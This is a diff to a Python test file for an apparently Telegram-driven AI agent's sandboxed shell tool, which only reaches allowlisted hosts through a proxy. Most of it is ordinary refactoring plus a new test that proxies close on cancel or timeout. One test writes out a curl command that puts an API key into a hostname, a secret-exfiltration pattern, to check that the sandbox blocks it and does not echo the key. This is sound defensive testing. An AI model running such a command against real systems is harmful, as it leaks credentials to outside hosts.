@@ -2,21 +2,22 @@
 
 from __future__ import annotations
 
+import asyncio
 import subprocess
 import sys
-from collections.abc import AsyncIterator
-from dataclasses import replace
+from collections.abc import AsyncGenerator, AsyncIterator, Sequence
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field, replace
 from pathlib import Path
 
 import pytest
-import uvloop
 
 from app.assembly import build_machine, guest_machines
 from app.core import network
-from app.core.contracts import ModelRequest, RunLimits
+from app.core.contracts import Grant, ModelRequest, Network, RunLimits
 from app.core.errors import ConfigError, SandboxError, ToolError
 from app.core.gates import build_handler, invoke
-from app.core.machine import use_folder, use_machine
+from app.core.machine import ToolLimits, machine, use_folder, use_machine
 from app.core.messages import ToolCall
 from app.core.toolkit import Risk, Toolbox
 from app.core.tools import ALL_TOOLS, execute_shell, git_operation
@@ -28,7 +29,7 @@ from app.sites import DEFAULT_SITES
 from tests.fakes.brain import ScriptedBrain, calls, text
 from tests.fakes.channel import FakeChannel
 from tests.fakes.internet import Internet, internet
-from tests.support import CHAT, make_settings, running_house
+from tests.support import CHAT, make_settings, running_house, until
 
 linux = pytest.mark.skipif(sys.platform != "linux", reason="confined with a proxy on a Unix socket")
 SESSION = "telegram_42"
@@ -39,10 +40,10 @@ HOSTS = ("example.com", "*.example.org")
 async def sites(tmp_path: Path) -> AsyncIterator[Internet]:
     """The tools of this task have it for their internet, confined by whatever holds here."""
     async with internet(tmp_path / "servidor") as sites:
-        machine = build_machine(make_settings(tmp_path, sandbox="auto"))
-        await machine.sandbox.ready()
-        assert machine.sandbox.confined
-        use_machine(replace(machine, network=sites.network(*HOSTS)))
+        here = build_machine(make_settings(tmp_path, sandbox="auto"))
+        await here.sandbox.ready()
+        assert here.sandbox.confined
+        use_machine(replace(here, network=sites.network(*HOSTS)))
         use_folder(tmp_path / "home/proyectos")
         yield sites
     use_folder(None)
@@ -125,11 +126,11 @@ async def test_what_was_refused_is_told(sites: Internet) -> None:
 @linux
 async def test_a_long_report_keeps_what_was_refused(sites: Internet) -> None:
     box, handler = Toolbox(ALL_TOOLS), build_handler([])
-    machine = build_machine(make_settings(sites.repositories.parent, sandbox="auto", tool_output_chars=1_000))
-    machine = replace(machine, network=sites.network(*HOSTS))
-    use_machine(machine)
+    here = build_machine(make_settings(sites.repositories.parent, sandbox="auto", tool_output_chars=1_000))
+    here = replace(here, network=sites.network(*HOSTS))
+    use_machine(here)
     arguments = '{"command": "curl -s http://otro.com/ >/dev/null; seq 9999", "network": true}'
-    result = await invoke(handler, box, machine, ToolCall(id="1", name="execute_shell", arguments=arguments))
+    result = await invoke(handler, box, here, ToolCall(id="1", name="execute_shell", arguments=arguments))
     assert len(result.content) <= 1_000
     assert "[La red no permitió: «otro.com»" in result.content and result.content.count("omitidos") == 1
 
@@ -174,15 +175,55 @@ async def test_a_site_that_is_not_there_is_told(sites: Internet) -> None:
 @linux
 async def test_secrets_are_not_told_as_names_of_sites(sites: Internet) -> None:
     key = "gsk_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2dF4hJ6kL8n"
-    machine = replace(
+    here = replace(
         build_machine(make_settings(sites.repositories.parent, sandbox="auto", groq_api_key=key.lower())),
         network=sites.network(*HOSTS),
     )
-    use_machine(machine)
+    use_machine(here)
     arguments = f'{{"command": "curl -s http://{key.lower()}.com/ >/dev/null", "network": true}}'
     call = ToolCall(id="1", name="execute_shell", arguments=arguments)
-    result = await invoke(build_handler([]), Toolbox(ALL_TOOLS), machine, call)
+    result = await invoke(build_handler([]), Toolbox(ALL_TOOLS), here, call)
     assert "La red no permitió" in result.content and key.lower() not in result.content
+
+
+@dataclass
+class Noting:
+    """A network that remembers where its proxies were."""
+
+    inner: Network
+    proxies: list[str] = field(default_factory=list)
+
+    @property
+    def hosts(self) -> Sequence[str]:
+        return self.inner.hosts
+
+    @asynccontextmanager
+    async def grant(self, seconds: float) -> AsyncGenerator[Grant]:
+        async with self.inner.grant(seconds) as grant:
+            self.proxies.append(grant.proxy)
+            yield grant
+
+
+@linux
+@pytest.mark.parametrize("end", ["cancelled", "timed out"])
+async def test_nothing_stays_open_when_a_command_is_ended(sites: Internet, end: str) -> None:
+    noting = Noting(sites.network(*HOSTS))
+    limits = ToolLimits(seconds=1.5 if end == "timed out" else 60)
+    use_machine(replace(machine(), network=noting, limits=limits))
+    command = f"curl -sS http://example.com:{sites.plain}/; sleep 50; curl http://example.com:{sites.plain}/"
+    task = asyncio.create_task(execute_shell(command, network=True))
+    await until(lambda: bool(sites.visits))
+    [proxy] = noting.proxies
+    (await asyncio.open_unix_connection(proxy))[1].close()
+    if end == "cancelled":
+        task.cancel()
+        with pytest.raises(asyncio.CancelledError):
+            await task
+    else:
+        assert "tiempo límite" in await task
+    with pytest.raises(ConnectionRefusedError):
+        await asyncio.open_unix_connection(proxy)
+    assert len(sites.visits) == 1
 
 
 # ---------------------------------------------------------------- who has none
@@ -190,9 +231,9 @@ async def test_secrets_are_not_told_as_names_of_sites(sites: Internet) -> None:
 
 async def test_guests_have_none(tmp_path: Path) -> None:
     settings = make_settings(tmp_path, sandbox="auto", telegram_user_id=1, telegram_guests=[7])
-    machine = build_machine(settings)
-    [guest] = guest_machines(settings, machine).values()
-    assert guest.network is None and machine.network is not None
+    here = build_machine(settings)
+    [guest] = guest_machines(settings, here).values()
+    assert guest.network is None and here.network is not None
     use_machine(guest)
     use_folder(tmp_path)
     await guest.sandbox.ready()
@@ -203,21 +244,21 @@ async def test_guests_have_none(tmp_path: Path) -> None:
 
 @pytest.mark.skipif(sys.platform == "win32", reason="POSIX shell")
 async def test_unconfined_it_is_not_filtered_and_says_so(tmp_path: Path) -> None:
-    machine = build_machine(make_settings(tmp_path))
-    use_machine(machine)
+    here = build_machine(make_settings(tmp_path))
+    use_machine(here)
     use_folder(tmp_path / "home/proyectos")
     assert (await execute_shell('echo "[$http_proxy]"', network=True)).startswith("[]")
-    assert network.reach(machine) == "Con toda la red, también la de tu casa: aquí nada encierra las órdenes."
-    assert "toda la red" in machine.sandbox.description
+    assert network.reach(here) == "Con toda la red, también la de tu casa: aquí nada encierra las órdenes."
+    assert "toda la red" in here.sandbox.description
     use_folder(None)
 
 
 @linux
 async def test_the_question_can_say_where_it_leads(tmp_path: Path) -> None:
-    machine = build_machine(make_settings(tmp_path, sandbox="auto", network_hosts=["github.com", "*.pypi.org"]))
-    await machine.sandbox.ready()
-    assert network.reach(machine) == "Con red, solo hasta: github.com, *.pypi.org."
-    assert network.reach(replace(machine, network=None)).endswith("NETWORK_HOSTS no permite ningún sitio.")
+    here = build_machine(make_settings(tmp_path, sandbox="auto", network_hosts=["github.com", "*.pypi.org"]))
+    await here.sandbox.ready()
+    assert network.reach(here) == "Con red, solo hasta: github.com, *.pypi.org."
+    assert network.reach(replace(here, network=None)).endswith("NETWORK_HOSTS no permite ningún sitio.")
 
 
 @pytest.mark.parametrize("entry", ["git.internal", "*.git.local", "metadata.google.internal"])
@@ -235,10 +276,12 @@ def test_the_sites_by_default_can_all_be_allowed() -> None:
 
 @linux
 def test_it_works_on_the_loop_of_the_server(tmp_path: Path) -> None:
+    import uvloop
+
     async def work() -> None:
         async with internet(tmp_path / "servidor") as sites:
-            machine = build_machine(make_settings(tmp_path, sandbox="auto"))
-            use_machine(replace(machine, network=sites.network(*HOSTS)))
+            here = build_machine(make_settings(tmp_path, sandbox="auto"))
+            use_machine(replace(here, network=sites.network(*HOSTS)))
             use_folder(tmp_path / "home/proyectos")
             assert "hola" in await execute_shell(f"curl -sS http://example.com:{sites.plain}/", network=True)
 
